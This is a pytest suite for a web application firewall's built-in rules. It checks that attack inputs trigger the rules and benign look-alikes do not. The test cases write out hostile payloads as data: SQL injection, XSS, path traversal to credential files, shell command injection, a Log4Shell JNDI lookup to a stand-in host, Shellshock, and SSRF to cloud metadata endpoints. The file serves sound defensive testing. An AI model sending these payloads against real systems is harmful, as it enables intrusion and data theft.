"""Our own rules (src/ramparts/waf/rules): fire on attacks, stay quiet on look-alikes."""

from __future__ import annotations

import pytest

from ramparts.waf import WafEngine

from .conftest import BROWSER_HEADERS, run

# (rule id, uri, headers override or None, must fire)
CASES: list[tuple[int, str, list[tuple[str, str]] | None, bool]] = [
    # protocol anomalies
    (1001100, "/", [("User-Agent", "x")], True),
    (1001100, "/", None, False),
    (
        1001110,
        "/",
        [*BROWSER_HEADERS, ("Transfer-Encoding", "chunked"), ("Content-Length", "4")],
        True,
    ),
    (1001110, "/", [*BROWSER_HEADERS, ("Content-Length", "0")], False),
    (1001120, "/file%00.php", None, True),
    (1001120, "/file%2500.php", None, False),
    (1001140, "/", [*BROWSER_HEADERS, ("X-A", "a\r\nSet-Cookie: x=1")], True),
    (1001140, "/", [*BROWSER_HEADERS, ("X-A", "a; b=c")], False),
    (1001150, "/a%0d%0ab", None, True),
    (1001150, "/a%20b", None, False),
    # SQL injection
    (1002100, "/?id=1%27%20OR%20%271%27=%271", None, True),
    (1002100, "/?q=O%27Brien%20and%20sons", None, False),
    (1002110, "/?id=1%20UNION%20ALL%20SELECT%20card,cvv%20FROM%20cards", None, True),
    (1002110, "/?id=1;%20DROP%20TABLE%20users", None, True),
    (1002110, "/?t=1%20or%20sleep(5)", None, True),
    (1002110, "/?q=please%20select%20a%20plan%20from%20the%20list", None, False),
    (1002110, "/?q=union%20station%20selection", None, False),
    # XSS
    (1003100, "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", None, True),
    (1003100, "/?q=5%20%3C%2010%20and%2010%20%3E%205", None, False),
    (1003110, "/?q=%3Cimg%20src=x%20onerror=alert(1)%3E", None, True),
    (1003110, "/?u=javascript:alert(1)", None, True),
    (1003110, "/?q=%26lt;svg/onload=alert(1)%26gt;", None, True),
    (1003110, "/?q=the%20onion%20router", None, False),
    (1003110, "/?q=Javanese%20script", None, False),
    # path traversal / LFI
    (1004100, "/?f=../../etc/shadow", None, True),
    (1004100, "/?f=%252e%252e%252fconfig", None, True),
    (1004100, "/?f=..%5c..%5cwindows", None, True),
    (1004100, "/?f=report..final.pdf", None, False),
    (1004110, "/?f=/etc/passwd", None, True),
    (1004110, "/static/.git/config", None, True),
    (1004110, "/?f=/proc/self/environ", None, True),
    (1004110, "/?f=/etc/passwords-policy.html", None, False),
    (1004110, "/docs/environment.html", None, False),
    # RCE
    (1005100, "/?h=8.8.8.8;cat%20/etc/hosts", None, True),
    (1005100, "/?h=x%7C%7Cwhoami", None, True),
    (1005100, "/?h=$(id)", None, True),
    (1005100, "/?q=cats%20and%20dogs;%20lists", None, False),
    (1005110, "/?x=$%7Bjndi:ldap://evil/a%7D", None, True),
    (1005110, "/?x=$%7B$%7Blower:j%7Dndi:x%7D", None, True),
    (1005110, "/?x=$%7Bname%7D", None, False),
    (1005120, "/", [*BROWSER_HEADERS, ("X-Env", "() { :; }; /bin/id")], True),
    (1005120, "/?f=(a)%20%7Bb%7D", None, False),
    # SSRF in parameters
    (1006100, "/?url=file:///etc/passwd", None, True),
    (1006100, "/?url=gopher://127.0.0.1:6379/_FLUSHALL", None, True),
    (1006100, "/?url=https://example.com/file://x", None, False),
    (1006110, "/?url=http://169.254.169.254/latest/meta-data/", None, True),
    (1006110, "/?url=http://metadata.google.internal/computeMetadata/v1/", None, True),
    (1006110, "/?cb=http://localhost:8080/admin", None, True),
    (1006110, "/?cb=http://127.0.0.1/", None, True),
    (1006110, "/?cb=http://%5B::1%5D/", None, True),
    (1006110, "/?cb=http://user@10.0.0.5/", None, True),
    (1006110, "/?cb=http://0x7f000001/", None, True),
    (1006110, "/?cb=http://2130706433/", None, True),
    (1006110, "/?cb=https://api.example.com/hook", None, False),
    (1006110, "/?cb=https://localhost.example.com/hook", None, False),
    (1006110, "/?cb=https://10.example.org/", None, False),
]


@pytest.mark.parametrize(("rule_id", "uri", "headers", "fires"), CASES)
def test_builtin_rule(
    builtin_engine: WafEngine,
    rule_id: int,
    uri: str,
    headers: list[tuple[str, str]] | None,
    fires: bool,
) -> None:
    tx, verdict = run(builtin_engine, uri, headers=headers)
    assert (rule_id in tx.matched_rule_ids) is fires, tx.matched_rule_ids
    if fires:
        assert verdict is not None and verdict.status == 403
        assert 1009100 in verdict.rule_ids


def test_method_not_allowed(builtin_engine: WafEngine) -> None:
    tx, v = run(builtin_engine, "/", method="TRACE")
    assert 1001130 in tx.matched_rule_ids and v is not None
    tx, v = run(builtin_engine, "/", method="PATCH")
    assert v is None


@pytest.mark.parametrize(
    ("uri", "body", "ctype"),
    [
        ("/v1/accounts/0123456789/statements?from=2024-01-01&to=2024-03-31", b"", None),
        (
            "/v1/payments",
            b'{"amount": 150000, "currency": "NGN", "narration": "Rent - Flat 3B, Lekki"}',
            "application/json",
        ),
        (
            "/login",
            b"username=ada%40example.com&password=S3cr3t%21%23",
            "application/x-www-form-urlencoded",
        ),
        ("/search?q=select+a+savings+plan&page=2", b"", None),
    ],
)
def test_normal_fintech_traffic_passes(
    builtin_engine: WafEngine, uri: str, body: bytes, ctype: str | None
) -> None:
    tx, v = run(
        builtin_engine, uri, method="POST" if body else "GET", body=body, content_type=ctype
    )
    assert v is None, tx.matched_rule_ids
    assert tx.matched_rule_ids == []
